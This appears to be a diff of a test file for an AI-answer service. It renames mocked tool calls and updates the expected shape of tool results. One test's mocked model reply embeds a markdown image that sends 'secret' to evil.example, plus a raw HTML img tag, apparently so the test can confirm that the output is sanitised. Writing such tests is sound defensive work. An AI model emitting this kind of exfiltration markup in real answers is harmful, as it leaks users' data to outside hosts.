@@ -58,7 +58,7 @@ describe('an answer of a model', () => {
     let step = 0
     server.answer = (reply) =>
       ++step === 1
-        ? reply.call('search_text', { text: 'a\0b\ud800' }).end('tool_calls')
+        ? reply.call('search', { text: 'a\0b\ud800' }).end('tool_calls')
         : reply.text('Nothing\0 found. \udfff').end()
     const { status, body } = await send('Who is it?')
     expect([status, body.status, body.content]).toEqual([201, 'COMPLETED', 'Nothing\ufffd found. \ufffd'])
@@ -71,7 +71,7 @@ describe('an answer of a model', () => {
     let step = 0
     server.answer = (reply) =>
       ++step === 1
-        ? reply.call('find_records', { object: 'account', search: 'Halvorsen' }).end('tool_calls')
+        ? reply.call('search', { object: 'account', text: 'Halvorsen' }).end('tool_calls')
         : reply
             .text('It is [Halv', `orsen](/account/${accountId}), not [Eve](/account/${foreign})`)
             .text(' or ![x](https://evil.ex', 'ample/?d=secret) at https://evil.example/a <img src=x>now.')
@@ -97,11 +97,11 @@ describe('an answer of a model', () => {
     expect(answer!['citations']).toEqual([
       { entityType: 'ACCOUNT', entityId: accountId, field: null, label: 'Halvorsen Marine' },
     ])
-    expect(answer!['toolCalls']).toMatchObject([{ name: 'find_records', status: 'OK', output: { rows: 1 } }])
+    expect(answer!['toolCalls']).toMatchObject([{ name: 'search', status: 'OK', output: { rows: 1 } }])
     expect(answer!['usage']).toEqual({ inputTokens: 24, outputTokens: 14, isEstimated: false })
     expect(await tokens()).toEqual([38])
     const result = JSON.parse(server.asked[1]!.messages.at(-1)!.content!) as Record<string, unknown>
-    expect(result).toMatchObject({ untrusted: true, total: 1 })
+    expect(result).toMatchObject({ untrusted: true, hits: [{ object: 'account', total: 1 }] })
   })
 
   it('gets the last 20 messages, and the model that the mode names', async () => {
